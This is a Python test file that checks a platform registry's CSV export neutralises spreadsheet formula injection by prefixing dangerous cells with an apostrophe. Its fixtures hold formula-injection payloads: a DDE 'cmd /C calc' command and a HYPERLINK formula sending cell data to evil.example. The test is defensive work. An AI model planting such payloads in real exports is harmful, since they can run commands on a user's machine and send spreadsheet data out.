"""Formula injection (issue 7, finding 11): a platform registered through the real registry
with names a spreadsheet would run comes out of the real feed's CSV as text."""
from __future__ import annotations

import csv
import io
from dataclasses import replace

import grpc
import httpx

from opendata_fakes import running_feed
from services.platforms.main import MODELS, bindings
from yinling.auth import bearer
from yinling.broker import free_port
from yinling.config import Settings
from yinling.service import start_service
from yinling.v1 import platforms_pb2 as pb
from yinling.v1.platforms_pb2_grpc import PlatformRegistryStub

STEWARD = bearer("dev-steward")
NAME = "=cmd|' /C calc'!A0"
HOST = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CLUSTER = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_platform_csv_cells_that_would_run_as_formulas_are_neutralised(broker, tmp_path):
    settings = Settings(bootstrap_servers=broker.bootstrap)
    runtime = start_service("platforms", settings, MODELS, bindings, grpc_port=free_port(),
                            database_url=f"sqlite:///{tmp_path / 'p.db'}")
    try:
        with grpc.insecure_channel(f"127.0.0.1:{runtime.server.port}") as channel:
            stub = PlatformRegistryStub(channel)
            p = stub.Register(pb.RegisterPlatformRequest(
                name=NAME, kind="new_rd_institution", host_organisation=HOST, district="440785",
                industry_cluster=CLUSTER, registered_on="2022-03-01"), metadata=STEWARD)
            stub.Accredit(pb.AccreditPlatformRequest(platform_id=p.id, level=pb.PLATFORM_LEVEL_PROVINCIAL,
                                                     accredited_on="2022-06-01"), metadata=STEWARD)
        feed_settings = replace(settings, ports={**settings.ports, "platforms.grpc": runtime.server.port})
        with running_feed(feed_settings) as url:
            response = httpx.get(f"{url}/api/v1/platforms.csv", params={"district": "440785"}, timeout=10)
            listing = httpx.get(f"{url}/api/v1/platforms", params={"district": "440785"}, timeout=10)
    finally:
        runtime.stop()
    assert response.status_code == 200
    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8")))
    row = dict(zip(header, rows[0], strict=True))
    assert (row["name"], row["host_organisation"], row["industry_cluster"]) == (
        "'" + NAME, "'" + HOST, "'" + CLUSTER)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    assert NAME in listing.text  # JSON is data, not a spreadsheet: it carries the name as given
